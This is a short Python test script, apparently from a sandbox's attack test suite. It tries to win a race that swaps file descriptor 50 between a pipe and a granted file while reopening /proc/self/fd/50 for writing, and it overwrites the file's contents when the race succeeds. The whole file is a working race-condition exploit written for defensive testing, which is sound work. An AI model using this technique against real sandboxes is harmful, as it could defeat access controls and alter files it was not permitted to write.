# SPDX-License-Identifier: Apache-2.0
# attack: /proc/self/fd/N is opened for writing while N is swapped between a pipe and a granted file
# class: race
# wins: files
# needs: race
from kit import *

r, w = os.pipe()
g = openat(BOX + '/plain.txt')
os.dup2(w, 50)
tried()


def swap():
    sc('dup2', w, 50)
    sc('dup2', g, 50)


end = loop_thread(swap)


def one(i):
    fd = openat('/proc/self/fd/50', os.O_WRONLY | os.O_NONBLOCK)
    if fd >= 0:
        size = os.fstat(fd).st_size
        if size:
            sc('pwrite64', fd, b'changed', 7, 0)
        os.close(fd)
        return size > 0


rounds(one)
end()
